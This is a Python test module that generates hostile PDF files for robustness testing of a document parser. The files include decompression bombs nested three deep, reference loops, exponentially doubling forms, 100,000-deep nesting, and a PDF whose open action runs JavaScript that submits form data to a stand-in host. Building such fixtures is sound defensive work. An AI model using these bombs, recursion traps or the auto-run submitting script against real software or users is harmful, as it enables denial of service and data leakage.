"""Nasty PDF files, written object by object: loops, bombs, endless pages, passwords, scripts."""

import zlib
from functools import partial
from itertools import repeat

from tests.nasty.nasty_file import EITHER, LINES, READ, Nasty

BROKEN = "beskadiget"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"


def pdf(objects: list[bytes], trailer: bytes = b"") -> bytes:
    """A PDF file of these objects, numbered from 1; the first is the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        start,
    )
    return bytes(out)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%b>>stream\n%b\nendstream" % (len(content), entries, content)


def text(lines: tuple[str, ...] = LINES) -> bytes:
    """Page contents that print the lines one below the other."""
    shown = b"".join(b"(%b) Tj T*\n" % line.encode("cp1252") for line in lines)
    return b"BT /F1 11 Tf 24 TL 60 780 Td\n" + shown + b"ET\n"


def one_page(
    content: bytes, *more: bytes, page: bytes = b"", catalog: bytes = CATALOG, trailer: bytes = b""
) -> bytes:
    """A file of one page: 4 is its content, 5 the font, `more` are objects from 6 on."""
    return pdf(
        [
            catalog,
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
            b"/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>" + page + b">>",
            content,
            FONT,
            *more,
        ],
        trailer,
    )


def pages(count: int) -> bytes:
    """A file of so many pages, all of them with the same content."""
    kids = b" ".join(b"%d 0 R" % number for number in range(5, 5 + count))
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R"
        b"/Resources<</Font<</F1 4 0 R>>>>>>"
    )
    tree = b"<</Type/Pages/Kids[%b]/Count %d>>" % (kids, count)
    return pdf([CATALOG, tree, stream(text()), FONT, *repeat(page, count)])


def form(name: bytes, target: bytes) -> bytes:
    """A form that draws another form, twice."""
    return stream(
        b"/%b Do /%b Do" % (name, name),
        b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</%b %b 0 R>>>>"
        % (name, target),
    )


def chain(length: int) -> list[bytes]:
    """Forms from 6 on, each drawing the next one twice: two to the power of `length` in all."""
    forms = [form(b"X", b"%d" % (7 + step)) for step in range(length)]
    return [*forms, stream(b"q Q", b"/Type/XObject/Subtype/Form/BBox[0 0 1 1]")]


def packed(content: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        content = zlib.compress(content, 1)
    return stream(content, b"/Filter[" + b"/FlateDecode" * times + b"]")


def locked() -> bytes:
    """A file that needs a password: nobody knows what its keys were made of."""
    keys = (
        b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O<" + b"5A" * 32 + b">/U<"
        + b"C3" * 32 + b">>>/ID[<" + b"01" * 16 + b"><" + b"01" * 16 + b">]"
    )  # fmt: skip
    return one_page(stream(text()), trailer=keys)


def rulings(count: int) -> bytes:
    """A page with a grid of so many lines each way, and text in it."""
    lines = b"".join(
        b"%d 0 m %d 842 l S 0 %d m 595 %d l S\n"
        % ((n * 595 // count,) * 2 + (n * 842 // count,) * 2)
        for n in range(count)
    )
    return one_page(stream(text() + lines))


def many_words(count: int, step: str = "1 0 Td") -> bytes:
    words = b"BT /F1 1 Tf 10 800 Td\n" + b"(ord) Tj %b\n" % step.encode() * count + b"ET"
    return one_page(stream(text() + words))


def big_table(rows: int, columns: int) -> bytes:
    """A table of this size on one page, with rulings around each cell."""
    out = [text()]
    wide, high = 500 / columns, 400 / rows
    for row in range(rows):
        for column in range(columns):
            x, y = 40 + column * wide, 20 + row * high
            out.append(b"%.2f %.2f %.2f %.2f re S\n" % (x, y, wide, high))
            out.append(b"BT /F1 %.2f Tf %.2f %.2f Td (1) Tj ET\n" % (high / 2, x + 0.2, y + 0.2))
    return one_page(stream(b"".join(out)))


SCRIPT = b"<</S/JavaScript/JS(app.alert\\('x'\\); this.submitForm\\('https://a.example'\\))>>"

FILES: dict[str, Nasty] = {
    "pdf-of-nothing-else": Nasty(lambda: one_page(stream(text())), READ),
    "pdf-pages-in-a-loop": Nasty(
        lambda: pdf([CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>"]), "PDF"
    ),
    "pdf-pages-of-pages-in-a-loop": Nasty(
        lambda: pdf(
            [
                CATALOG,
                b"<</Type/Pages/Kids[3 0 R]/Count 9>>",
                b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 9>>",
            ]
        ),
        "PDF",
    ),
    "pdf-counts-a-thousand-million-pages": Nasty(
        lambda: pdf([CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 1000000000>>", b"<</Type/Page>>"]),
        "PDF",
    ),
    "pdf-counts-less-than-nothing": Nasty(
        lambda: pdf([CATALOG, b"<</Type/Pages/Kids[]/Count -5>>"]), "PDF"
    ),
    "pdf-10000-pages": Nasty(lambda: pages(10_000), "10.000 sider"),
    "pdf-1000-pages": Nasty(lambda: pages(1000), READ),
    "pdf-form-draws-itself": Nasty(
        lambda: one_page(stream(text() + b"/X Do"), form(b"X", b"6")), EITHER
    ),
    "pdf-forms-draw-each-other": Nasty(
        lambda: one_page(stream(text() + b"/X Do"), form(b"Y", b"7"), form(b"X", b"6")), EITHER
    ),
    "pdf-forms-double": Nasty(lambda: one_page(stream(text() + b"/X Do"), *chain(12)), EITHER),
    "pdf-letters-draw-themselves": Nasty(
        lambda: one_page(
            stream(text() + b"BT /F2 10 Tf (aaaa) Tj ET"),
            b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 97"
            b"/LastChar 97/Widths[1]/Encoding<</Differences[97/a]>>/CharProcs<</a 7 0 R>>"
            b"/Resources<</Font<</F2 6 0 R>>>>>>",
            stream(b"1 0 d0 BT /F2 10 Tf (aaaa) Tj ET"),
            page=b"/Resources<</Font<</F1 5 0 R/F2 6 0 R>>>>",
        ),
        EITHER,
    ),
    "pdf-tables-of-objects-in-a-loop": Nasty(
        lambda: (d := one_page(stream(text()))).replace(
            b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % d.rfind(b"xref\n0")
        ),
        EITHER,
    ),
    "pdf-object-is-itself": Nasty(lambda: pdf([b"1 0 R", b"2 0 R"]), "PDF"),
    "pdf-length-is-itself": Nasty(
        lambda: one_page(b"<</Length 4 0 R>>stream\n" + text() + b"\nendstream"), EITHER
    ),
    "pdf-deep-arrays": Nasty(
        lambda: one_page(stream(text()), page=b"/Deep" + b"[" * 100_000 + b"]" * 100_000), EITHER
    ),
    "pdf-deep-states": Nasty(lambda: one_page(stream(b"q " * 300_000 + text())), EITHER),
    "pdf-bomb": Nasty(lambda: one_page(packed(text() + b" " * 60_000_000)), EITHER),
    "pdf-bomb-in-a-bomb": Nasty(
        lambda: one_page(packed(text() + b" " * 60_000_000, times=3)), EITHER
    ),
    "pdf-endless-page": Nasty(
        lambda: one_page(stream(text())).replace(b"[0 0 595 842]", b"[0 0 9e9 9e9]"), EITHER
    ),
    "pdf-page-of-no-size": Nasty(
        lambda: one_page(stream(text())).replace(b"[0 0 595 842]", b"[0 0 000 000]"), EITHER
    ),
    "pdf-no-numbers": Nasty(
        lambda: one_page(
            stream(b"1e38 0 0 1e38 0 0 cm BT /F1 1e38 Tf 1e38 -1e38 Td (NaN) Tj ET" + text())
        ),
        EITHER,
    ),
    "pdf-many-rulings": Nasty(lambda: rulings(2000), EITHER),
    "pdf-many-cells": Nasty(lambda: big_table(150, 100), EITHER),
    "pdf-many-words": Nasty(lambda: many_words(50_000), EITHER),
    "pdf-words-on-one-spot": Nasty(lambda: many_words(50_000, step="0 0 Td"), EITHER),
    "pdf-words-down-the-page": Nasty(lambda: many_words(20_000, step="0 -1 Td"), EITHER),
    "pdf-with-script": Nasty(
        lambda: one_page(
            stream(text()),
            SCRIPT,
            catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R"
            b"/Names<</JavaScript<</Names[(x) 6 0 R]>>>>>>",
        ),
        READ,
    ),
    "pdf-with-password": Nasty(locked, "adgangskode"),
    "pdf-of-pictures": Nasty(
        lambda: one_page(
            stream(b"q 595 0 0 842 0 0 cm /X Do Q"),
            stream(
                b"\x80",
                b"/Type/XObject/Subtype/Image/Width 1/Height 1"
                b"/ColorSpace/DeviceGray/BitsPerComponent 8",
            ),
        ),
        "indscannet",
    ),
    "pdf-head-alone": Nasty(lambda: b"%PDF-1.7\n%%EOF\n", "PDF"),
    "pdf-behind-mail": Nasty(lambda: b"Emne: referat\r\n\r\n" + one_page(stream(text())), EITHER),
    "pdf-named-txt": Nasty(lambda: one_page(stream(text())), READ, name="referat.txt"),
}

for _part in (10, 50, 90, 99):
    FILES[f"pdf-first-{_part}-percent"] = Nasty(
        partial(lambda part: (d := pages(20))[: len(d) * part // 100], _part), BROKEN
    )
